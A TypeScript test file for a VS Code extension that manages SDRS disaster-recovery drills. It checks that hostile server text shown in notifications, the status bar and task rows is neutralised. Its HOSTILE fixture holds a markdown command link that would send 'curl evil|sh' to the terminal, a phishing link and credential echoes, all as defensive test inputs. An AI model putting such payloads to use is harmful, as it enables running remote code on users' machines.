// Every notification and status-bar message that carries text from SDRS, with that text hostile: a link to a command,
// $(icon) syntax, 100 KB, an echo of the credentials. What a person would read (announced by the extension as it is
// shown) has no live link, no icon, no secret, and stays one bounded line.
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import type { SaidMessage } from '../../src/ui/say';
import { ACCESS_KEY, collectSaid, makeDrill, makeGroup, openHarness, SECRET_KEY, waitFor, type Harness, type SaidLog } from './support';

const group = makeGroup('hostile-messages-group');
const drill = makeDrill('hostile-target', group.id);

/** Server text as a hostile gateway sends it: every class at once. */
const HOSTILE = [
  'Denied. [Fix it now](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  'see [docs] (https://evil.example/phish)',
  '$(zap) $(sync~spin)',
  `AK=${ACCESS_KEY} SK=${SECRET_KEY} Authorization: SDK-HMAC-SHA256 Access=${ACCESS_KEY}, SignedHeaders=host`,
  'x'.repeat(100_000),
].join(' ');

const LIVE_LINK = /\]\s*\((?:command:|https?:|file:)/i;
const ICON = /\$\([a-z0-9-]+(?:~[a-z0-9-]*)?\)/i;

function assertInert(m: SaidMessage, what: string): void {
  for (const text of [m.message, m.detail ?? '']) {
    assert.doesNotMatch(text, LIVE_LINK, `${what}: a live link in ${JSON.stringify(text.slice(0, 300))}`);
    assert.doesNotMatch(text, ICON, `${what}: an icon in ${JSON.stringify(text.slice(0, 300))}`);
    assert.ok(!text.includes(ACCESS_KEY) && !text.includes(SECRET_KEY), `${what}: a credential echoed: ${text.slice(0, 300)}`);
    assert.ok(text.length <= 2_000, `${what}: ${text.length} characters`);
    assert.doesNotMatch(text, /[\r\n]/, `${what}: more than one line`);
  }
}

describe('hostile server text in notifications and the status bar', function () {
  let h: Harness;
  let said: SaidLog;
  const next = (kind: SaidMessage['kind'], what: string): Promise<SaidMessage> => said.next(kind, what);

  before(async () => {
    h = await openHarness({ groups: [group], drills: [{ ...drill }] });
    h.emulator.options.lifecycle = true;
    said = collectSaid(h.api);
  });
  beforeEach(async () => {
    h.emulator.data.drills.splice(0, h.emulator.data.drills.length, { ...drill });
    await h.reset();
    await h.refresh();
    said.clear();
  });
  after(async () => {
    said?.dispose();
    await h?.dispose();
  });

  it('a refused rename: the error body, its code and the request ID header', async () => {
    h.emulator.injectFault({
      method: 'PUT',
      status: 400,
      body: { error: { code: 'SDRS.0202 [x](command:evil)', message: HOSTILE } },
      headers: { 'X-Request-Id': 'req-[x](command:workbench.action.quit)' },
    });
    await vscode.commands.executeCommand('sdrsDrills.renameDrill', h.drill(drill.id), 'refused-name');
    const m = await next('error', 'rename refused');
    assert.match(m.message, /Could not rename the drill/);
    assertInert(m, 'rename refused');
  });

  it('a rename SDRS answers with a hostile name: the status-bar confirmation', async () => {
    h.emulator.injectFault({
      method: 'PUT',
      status: 200,
      body: { disaster_recovery_drill: { ...drill, name: '[x](command:evil) $(zap) renamed' } },
    });
    await vscode.commands.executeCommand('sdrsDrills.renameDrill', h.drill(drill.id), 'asked-name');
    assertInert(await next('status', 'rename answer'), 'rename answer');
  });

  it('a refused delete, and a delete job that fails with a hostile reason and code', async () => {
    h.emulator.injectFault({ method: 'DELETE', status: 500, body: { error: { code: 'SDRS.9999', message: HOSTILE } } });
    await vscode.commands.executeCommand('sdrsDrills.deleteDrill', h.drill(drill.id), true);
    const refused = await next('error', 'delete refused');
    assert.match(refused.message, /Could not delete drill/);
    assertInert(refused, 'delete refused');

    said.clear();
    h.emulator.failNextJob(HOSTILE, 'SDRS.1923 $(zap)');
    await vscode.commands.executeCommand('sdrsDrills.deleteDrill', h.drill(drill.id), true);
    const failed = await next('error', 'delete job failed');
    assert.match(failed.message, /Deleting drill .* failed/);
    assertInert(failed, 'delete job failed');
  });

  it('a create job that fails with a hostile reason: the notification, and the failed task row and tooltip it leaves', async () => {
    h.emulator.failNextJob(HOSTILE, 'SDRS.1922 [x](command:evil)');
    await vscode.commands.executeCommand('sdrsDrills.createDrill', h.group(group.name), { name: 'hostile-create' });
    const failed = await next('error', 'create job failed');
    assert.match(failed.message, /Creating drill hostile-create failed/);
    assertInert(failed, 'create job failed');

    await h.refresh();
    let rows: vscode.TreeItem[] = [];
    await waitFor(() => {
      rows = h
        .children(h.group(group.name))
        .filter((n) => n.kind === 'failedTask')
        .map((n) => h.item(n));
      return rows.length > 0;
    }, 'the failed task row');
    for (const row of rows) {
      const tooltip = row.tooltip instanceof vscode.MarkdownString ? row.tooltip.value : String(row.tooltip ?? '');
      for (const text of [String(row.label), String(row.description ?? ''), tooltip]) {
        assert.ok(!text.includes(ACCESS_KEY) && !text.includes(SECRET_KEY), `a credential on the failed task row: ${text.slice(0, 300)}`);
      }
    }
  });
});
